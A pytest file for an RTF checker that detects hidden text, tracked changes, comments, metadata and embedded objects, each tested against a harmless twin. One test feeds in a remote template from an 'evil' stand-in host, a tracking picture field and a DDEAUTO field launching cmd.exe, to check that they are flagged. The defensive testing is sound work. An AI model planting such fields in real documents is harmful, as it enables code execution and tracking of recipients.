"""Every place of an RTF file where something can hide is found and named; its twin is quiet."""

from dataclasses import dataclass

import pytest

from checker.model import Concealment, Document, Part, TraceKind
from checker.reading.asking import Asked, Reading
from checker.reading.rtf import rtf_reading
from tests.builders.ole_files import compound
from tests.builders.rtf_files import (
    BLACK,
    TRACKED,
    WHITE,
    built_in,
    lines,
    packaged,
    picture,
    rtf,
    shape,
)

KEPT = "Flat 3, 17 Larkspur Lane"
LETTER = lines("Dear Ms Hale", "Your hearing is on Monday.")
EVERYDAY = frozenset((TraceKind.HIGHLIGHT, TraceKind.PLACEHOLDER))


def datastore(xml: str) -> str:
    """Give data of a program as a file keeps it, in hex digits."""
    return compound({"Item": xml.encode()}).hex()


def read(*content: str) -> Reading:
    """Read a letter with more in it."""
    return rtf_reading(Asked(name="letter.rtf", data=rtf(LETTER, *content, head=TRACKED)))


@dataclass(frozen=True, slots=True)
class Kind:
    """One way to hide: the group that does, its twin that does not, and what is to be told."""

    hides: str
    twin: str
    trace: TraceKind
    name: str = ""
    author: str = ""
    part: Part | None = None
    concealment: Concealment | None = None
    """Why the line is not seen, where it is a line of the letter."""


HIDDEN = Kind(rf"{{\v {KEPT}}}\par", rf"{{\v0 {KEPT}}}\par", TraceKind.HIDDEN_TEXT, "hidden")
KINDS = {
    r"hidden text (\v)": HIDDEN,
    r"deleted text (\deleted)": Kind(
        rf"{{\deleted\revauthdel1 {KEPT}}}\par", r"\par", TraceKind.DELETION, "", "Kit Moss"
    ),
    r"inserted text (\revised) and who did it (\revtbl)": Kind(
        rf"{{\revised\revauth1 {KEPT}}}\par",
        rf"{{{KEPT}}}\par",
        TraceKind.INSERTION,
        "",
        "Kit Moss",
    ),
    r"comment (\annotation) and its author (\atnauthor)": Kind(
        rf"{{\*\atnid KM}}{{\*\atnauthor Kit Moss}}{{\*\annotation \pard\plain {KEPT}}}\par",
        r"\par",
        TraceKind.COMMENT,
        "",
        "Kit Moss",
    ),
    r"properties (\info)": Kind(
        rf"{{\info{{\title {KEPT}}}}}", r"{\info{\creatim\yr2026}}", TraceKind.METADATA, "title"
    ),
    r"template (\template)": Kind(
        rf"{{\*\template C:\\{KEPT}.dot}}",
        r"{\*\template C:\\Templates\\Normal.dotm}",
        TraceKind.METADATA,
        "template",
    ),
    r"variable (\docvar)": Kind(
        rf"{{\*\docvar {{Home}}{{{KEPT}}}}}", "", TraceKind.METADATA, "variable Home"
    ),
    r"unused header (\headerf)": Kind(
        rf"{{\headerf \pard\plain {KEPT}\par}}",
        rf"\titlepg{{\headerf \pard\plain {KEPT}\par}}",
        TraceKind.HIDDEN_TEXT,
        "unused",
    ),
    r"unused footer (\footerl)": Kind(
        rf"{{\footerl \pard\plain {KEPT}\par}}",
        rf"\facingp{{\footerl \pard\plain {KEPT}\par}}",
        TraceKind.HIDDEN_TEXT,
        "unused",
    ),
    r"page style that no page has (\pgdsctbl)": Kind(
        rf"{{\*\pgdsctbl{{\pgdsc0 Other{{\header \pard\plain {KEPT}}};}}}}",
        r"{\*\pgdsctbl{\pgdsc0 Other;}}",
        TraceKind.HIDDEN_TEXT,
        "unused",
    ),
    r"hidden footnote (\footnote)": Kind(
        rf"{{\v {{\footnote \pard\plain\v {KEPT}}}}}\par",
        rf"{{\footnote \pard\plain {KEPT}}}\par",
        TraceKind.HIDDEN_TEXT,
        "hidden",
    ),
    r"field instruction (\fldinst)": Kind(
        rf'{{\field{{\*\fldinst IF 1 = 1 "yes" "{KEPT}"}}{{\fldrslt yes}}}}\par',
        r'{\field{\*\fldinst IF 1 = 1 "yes" ""}{\fldrslt yes}}\par',
        TraceKind.HIDDEN_TEXT,
        "hidden",
    ),
    r"text box that is switched off (\shptxt)": Kind(
        shape(KEPT, ("fHidden", "1")) + r"\par",
        shape(KEPT) + r"\par",
        TraceKind.HIDDEN_TEXT,
        "hidden",
    ),
    r"built-in file (\objdata)": Kind(
        built_in("Package", packaged("Larkspur.txt", KEPT.encode())),
        r"{\object{\result \pard a sign\par}}",
        TraceKind.EMBEDDED,
        "embedded object",
    ),
    r"description of a picture (\pict)": Kind(
        picture(says=KEPT), picture(), TraceKind.HIDDEN_TEXT, "alternative-text"
    ),
    r"unknown group (\*\)": Kind(
        rf"{{\*\nobodyknows {KEPT}}}", r"{\*\nobodyknows }", TraceKind.HIDDEN_TEXT, "hidden"
    ),
    r"raw bytes (\bin)": Kind(
        rf"{{\bin{len(KEPT)} {KEPT}}}",
        r"{\bin4 " + "\0" * 4 + "}",
        TraceKind.HIDDEN_TEXT,
        "hidden",
    ),
    "white text": Kind(
        rf"{{\cf{WHITE} {KEPT}}}\par",
        rf"{{\cf{BLACK} {KEPT}}}\par",
        TraceKind.HIDDEN_TEXT,
        "white",
    ),
    "black bar": Kind(
        rf"{{\cf{BLACK}\highlight{BLACK} {KEPT}}}\par",
        rf"{{\cf{WHITE}\chcbpat{BLACK} {KEPT}}}\par",
        TraceKind.REDACTION,
        "covered text",
    ),
    "tiny text": Kind(
        rf"{{\fs2 {KEPT}}}\par", rf"{{\fs18 {KEPT}}}\par", TraceKind.HIDDEN_TEXT, "tiny"
    ),
    r"data of a program (\datastore)": Kind(
        rf"{{\*\datastore {datastore(f'<a><b>{KEPT}</b></a>')}}}",
        rf"{{\*\datastore {datastore('<a><b/></a>')}}}",
        TraceKind.METADATA,
        "custom data",
    ),
    r"smart tag (\factoidname)": Kind(
        rf"{{\*\xmlopen\xmlns1{{\factoidname {KEPT}}}}}",
        r"{\*\xmlopen\xmlns1{\factoidname }}",
        TraceKind.METADATA,
        "smart tag",
    ),
}
"""All of the kinds but one; the page inside (`\\fromhtml`) has a test of its own."""


def found(document: Document, kind: Kind) -> bool:
    """Say whether a trace tells of the secret as it should."""
    return any(
        (one.kind, one.name, one.author) == (kind.trace, kind.name, kind.author)
        and (KEPT in one.text or kind.trace is TraceKind.EMBEDDED)
        for one in document.traces
    )


@pytest.mark.parametrize("kind", [pytest.param(kind, id=name) for name, kind in KINDS.items()])
def test_what_hides_is_found_and_named(kind: Kind) -> None:
    """A trace says what it is, and the words go through every other check."""
    reading = read(kind.hides)

    document = reading.document

    assert found(document, kind), document.traces
    inside = any(KEPT.encode() in one.data for one in reading.held)
    assert inside or any(KEPT in line.text for line in document.lines)


@pytest.mark.parametrize("kind", [pytest.param(kind, id=name) for name, kind in KINDS.items()])
def test_the_twin_is_quiet(kind: Kind) -> None:
    """The same letter without it, or with it in plain sight, raises nothing."""
    reading = read(kind.twin)

    told = [one for one in reading.document.traces if one.kind not in EVERYDAY]
    assert [one for one in told if one.name != "reviewer"] == []
    assert reading.document.gaps == ()
    assert reading.held == ()


def test_the_page_inside_is_handed_over() -> None:
    """What a mail program kept of the web page is read as a file of its own."""
    hides = rf"{{\*\htmltag84 <!-- {KEPT} -->}}Dear Ms Hale\par"
    data = rtf(hides, head=r"{\rtf1\ansi\fromhtml1{\fonttbl{\f0 Arial;}}")

    reading = rtf_reading(Asked(name="letter.rtf", data=data))

    assert [one.name for one in reading.held] == ["page.html"]
    assert KEPT in reading.held[0].data.decode()
    told = [one for one in reading.document.traces if one.kind is TraceKind.EMBEDDED]
    assert [one.name for one in told] == ["web page inside"]
    assert reading.document.text() == "Dear Ms Hale"


def test_a_text_that_was_plain_holds_no_page() -> None:
    """The twin of the page inside: a mail that was plain text."""
    data = rtf("Dear Ms Hale", head=r"{\rtf1\ansi\fromtext{\fonttbl{\f0 Arial;}}")

    reading = rtf_reading(Asked(name="letter.rtf", data=data))

    assert reading.held == ()
    assert reading.document.traces == ()


def test_hidden_words_never_mix_with_those_that_are_seen() -> None:
    """What is deleted, hidden or in a comment does not stand in the line that a person reads."""
    reading = read(r"Come {\v not }{\deleted\revauthdel1 never }on Monday.\par")

    seen = [one.text for one in reading.document.lines if one.hidden is None]

    assert "Come on Monday." in seen


def test_what_would_run_is_said() -> None:
    """Templates and pictures from afar, linked files and DDE fields are named."""
    remote = r"{\*\template https://files.example/evil.dotm}"
    picture_field = r'{\field{\*\fldinst INCLUDEPICTURE "https://track.example/a.png"}{\fldrslt }}'
    dde = r'{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"}{\fldrslt x}}'

    reading = read(remote, picture_field, dde)

    told = {one.name for one in reading.document.traces if one.kind is TraceKind.ACTIVE}
    assert told == {"remote template", "picture from the internet", "DDE field"}


def test_a_picture_keeps_its_size() -> None:
    """An inch by half an inch, so that a scan that fills the page is told from a small crest."""
    reading = read(picture())

    (shown,) = reading.pictures
    assert shown.data.startswith(b"\x89PNG")
    assert shown.gap.area_mm2 == pytest.approx(25.4 * 12.7, abs=0.01)
